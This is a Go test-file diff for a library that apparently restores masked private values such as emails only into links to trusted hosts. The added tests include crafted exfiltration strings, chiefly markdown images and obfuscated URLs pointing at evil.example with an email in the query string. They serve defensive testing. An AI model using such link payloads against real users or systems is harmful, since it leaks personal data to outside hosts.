@@ -1,6 +1,7 @@
 package placeholder_test
 
 import (
+	"encoding/json"
 	"math/rand"
 	"strings"
 	"testing"
@@ -33,6 +34,12 @@ func TestLinksToStrangers(t *testing.T) {
 		"https://known.example:x.evil.example/[EMAIL_1]",
 		"<a href=\"https://known.example\n.evil.example/?[EMAIL_1]\">",
 		"<a href=\"https://known.example&Tab;.evil.example/?[EMAIL_1]\">",
+		// Links in links.
+		`"https://known.example/ ![x](https://evil.example/?d=[EMAIL_1])"`, `"//? ![x](https://evil.example/?d=[EMAIL_1])"`,
+		`https://known.example/![x](https://evil.example/?d=[EMAIL_1])`, `[a]:https://known.example/![x](https://evil.example/?d=[EMAIL_1])`,
+		`"https://known.example/ https://known.example&sol;.evil.example/?d=[EMAIL_1]"`, `https://known.example&#47https:evil.example/[EMAIL_1]`,
+		`(https://known.example/"https://evil.example/? d=[EMAIL_1]"`, "https://known.example/" + strings.Repeat("https://known.example/", 9) + "https://evil.example/?d=[EMAIL_1]",
+		`{"a":"\\\\#\nhttps:evil.example/[EMAIL_1]"}`,
 		// Quotes.
 		"<img src=\"https://evil.example/?a\n=[EMAIL_1]\">",
 		"<img src=\"https://evil.example/?a\n\n=[EMAIL_1]\">",
@@ -125,6 +132,7 @@ func TestLinksThatAreNone(t *testing.T) {
 		"mailto:[EMAIL_1]", "tel:[EMAIL_1]", `C:\Users\[EMAIL_1]x`, `"C:\\Users\\[EMAIL_1]x"`, `{"path":"C:\\Users\\[EMAIL_1]x"}`,
 		"http: [EMAIL_1]", "note: [EMAIL_1], R&D [EMAIL_1]", `{"a":"\\[EMAIL_1]\\"}`, `\\[EMAIL_1], x`,
 		"draws:[EMAIL_1]x", "awww.x/[EMAIL_1]", "it's at https://x.example, isn't it, [EMAIL_1]",
+		"https://known.example/https://known.example/[EMAIL_1]", `<a href="https://known.example/?u=https://x.example/a">[EMAIL_1]</a>`,
 		"https://known.example/[EMAIL_1]", `https:\/\/known.example\/[EMAIL_1]`, "https&colon;&sol;&sol;known.example/[EMAIL_1]",
 		`{"url":"https\u003a\u002f\u002fknown.example\u002f[EMAIL_1]"}`, `https://known.example:8443?[EMAIL_1]`,
 		"<img src=\"ht\ttps://known.\nexample/[EMAIL_1]\">",
@@ -166,9 +174,112 @@ func TestLinksOfTheCaller(t *testing.T) {
 	}
 }
 
+// In arguments each string is a text of its own, as its reader gets it.
+func TestLinksInArguments(t *testing.T) {
+	const value = "ann@x.io"
+	for _, text := range []string{
+		`{"a":"see, https://x.example/a,","b":"[EMAIL_1]"}`, `{"a":"see https://x.example","b":"[EMAIL_1]"}`,
+		`{"a":"hello, ","u":"see https://x.example/a","b":"[EMAIL_1]"}`, `{"u":"see https:\/\/x.example\/a\/b","b":"[EMAIL_1]"}`,
+		`["see https://x.example","[EMAIL_1]"]`, `{"https://x.example/ ":"[EMAIL_1]"}`, `{"a":"say \"hi, see https://x.example","b":"[EMAIL_1]"}`,
+		`{"path":"\/home\/[EMAIL_1]"}`, `{"url":"https:\/\/known.example\/[EMAIL_1]"}`, `{"html":"<\/b>[EMAIL_1]<\/p>"}`,
+		`{"body":"{\"p\":\"\\\/home\\\/[EMAIL_1]\"}"}`, `{"url":"go to https:\/\/known.example\/?[EMAIL_1]"}`,
+	} {
+		if got, want := whole(lane(placeholder.Tolerant, placeholder.Links{}, placeholder.JSON), text), strings.ReplaceAll(text, "[EMAIL_1]", value); got != want {
+			t.Errorf("%s became\n%s", text, got)
+		}
+		checkSplits(t, placeholder.JSON, text)
+	}
+	for _, text := range []string{
+		`{"url":"https:\/\/stranger.example\/[EMAIL_1]"}`, `{"url":"\/\/stranger.example\/[EMAIL_1]"}`, `{"url":"\/\\stranger.example\/[EMAIL_1]"}`,
+		`{"url":"https:\/\/known.example\\.stranger.example\/[EMAIL_1]"}`, `{"html":"<img src=\"\/\/stranger.example\/? d=[EMAIL_1]\">"}`,
+		`{"html":"![x](https:\/\/stranger.example\/?\"d=[EMAIL_1]"}`, `{"url":"\u0026#47;\u0026sol;stranger.example/[EMAIL_1]"}`,
+	} {
+		if got := whole(lane(placeholder.Tolerant, placeholder.Links{}, placeholder.JSON), text); got != text {
+			t.Errorf("%s became\n%s", text, got)
+		}
+	}
+	rnd := rand.New(rand.NewSource(6))
+	restored := 0
+	for i := 0; i < 20_000; i++ {
+		doc := map[string]string{"z": "[EMAIL_1]"}
+		for _, name := range []string{"a", "b"} {
+			text := ""
+			for n := rnd.Intn(7); n > 0; n-- {
+				text += append(linkPieces, "[EMAIL_1]")[rnd.Intn(len(linkPieces)+1)]
+			}
+			doc[name] = strings.ReplaceAll(text, `"`, "") // its own quotes are other quotes
+		}
+		args, err := json.Marshal(doc)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if i%2 == 0 {
+			args = []byte(strings.ReplaceAll(string(args), "/", `\/`))
+		}
+		var got map[string]string
+		if err := json.Unmarshal([]byte(whole(lane(placeholder.Strict, placeholder.Links{}, placeholder.JSON), string(args))), &got); err != nil {
+			t.Fatal(err)
+		}
+		if got["z"] != value {
+			t.Fatalf("%s: the last one stays masked", args)
+		}
+		for name := range doc {
+			n, most := strings.Count(got[name], value), strings.Count(whole(lane(placeholder.Strict, placeholder.Links{}, placeholder.Text), doc[name]), value)
+			if restored += n; n > most {
+				t.Fatalf("%s becomes %q, more than its reader would let in", args, got[name])
+			}
+		}
+	}
+	if restored < 21_000 {
+		t.Errorf("only %d were restored", restored)
+	}
+}
+
+// Of several values in one host, all are looked at before the first.
+func TestSeveralValuesInOneHost(t *testing.T) {
+	for _, tt := range []struct{ host, masked string }{
+		{"ann@x.io", "[A_1]@[B_1]"}, {"ann.x.io", "[A_1].[B_1]"}, {"ann:pw@x.io:80", "[A_1]:pw@[B_1]:80"}, {"x.io.x.io", "[B_1].[B_1]"}, {"annx.io", "[A_1][B_1]"},
+	} {
+		for _, known := range []bool{true, false} {
+			v := placeholder.NewVault()
+			a, b := placeholder.NewStem("[A]"), placeholder.NewStem("[B]")
+			if known {
+				v.Reserve(placeholder.NewReader([]placeholder.Stem{a, b}), "https://"+tt.host+"/")
+			}
+			v.Issue(a, "ann", true, false)
+			v.Issue(b, "x.io", true, false)
+			text, want := "https://"+tt.masked+"/?[A_1]", "https://"+tt.host+"/?ann"
+			if !known {
+				want = text
+			}
+			r := placeholder.NewRestorer(v, placeholder.Tolerant, placeholder.Links{}, budget)
+			if got := whole(r.NewLane(placeholder.Text), text); got != want {
+				t.Errorf("%s, known: %v: got %s, want %s", text, known, got, want)
+			}
+			cut, got := r.NewLane(placeholder.Text), ""
+			for i := range []byte(text) {
+				got += join(cut.Push(text[i : i+1]))
+			}
+			if got += join(cut.Flush()); got != want {
+				t.Errorf("%s, known: %v: streamed got %s, want %s", text, known, got, want)
+			}
+		}
+	}
+	// A value that there is no room for must not leave the others in a stranger's host.
+	v := placeholder.NewVault()
+	a, b := placeholder.NewStem("[A]"), placeholder.NewStem("B")
+	v.Reserve(placeholder.NewReader([]placeholder.Stem{a, b}), "https://ann.x.io/")
+	v.Issue(a, "ann", true, false)
+	v.Issue(b, "x.io", true, false)
+	r := placeholder.NewRestorer(v, placeholder.Tolerant, placeholder.Links{}, 5)
+	if got, want := whole(r.NewLane(placeholder.Text), "https://[A_1].B_1/"), "https://[A_1].B_1/"; got != want {
+		t.Errorf("got %s, want %s", got, want)
+	}
+}
+
 func TestLinksTakeLinearTime(t *testing.T) {
 	for _, part := range []string{`\`, "/", "&", "&#", "http:", `"`, "(", "a", "https://a\\.", "\\u00", "https://[EMAIL_1]"} {
-		text := strings.Repeat(part, 1<<20/len(part))
+		text := strings.Repeat(part, 1<<18/len(part))
 		start := time.Now()
 		whole(lane(placeholder.Tolerant, placeholder.Links{}, placeholder.Text), text)
 		if d := time.Since(start); d > 10*time.Second {
@@ -183,7 +294,7 @@ var linkPieces = []string{
 }
 
 // What the caller wrote comes back, whole and streamed, wherever links begin
-// and end in it. (Of two values in one host, the first does not see the second.)
+// and end in it.
 func TestLinksRoundTrip(t *testing.T) {
 	rnd := rand.New(rand.NewSource(5))
 	for i := 0; i < 30_000; i++ {
@@ -195,6 +306,9 @@ func TestLinksRoundTrip(t *testing.T) {
 		text := b.String()
 		if rnd.Intn(2) == 0 {
 			text += linkPieces[rnd.Intn(len(linkPieces))]
+		}
+		if rnd.Intn(4) == 0 {
+			text += "ann@x.io" + linkPieces[rnd.Intn(len(linkPieces))]
 		}
 		masked := strings.ReplaceAll(text, "ann@x.io", "[EMAIL_1]")
 		v := placeholder.NewVault()
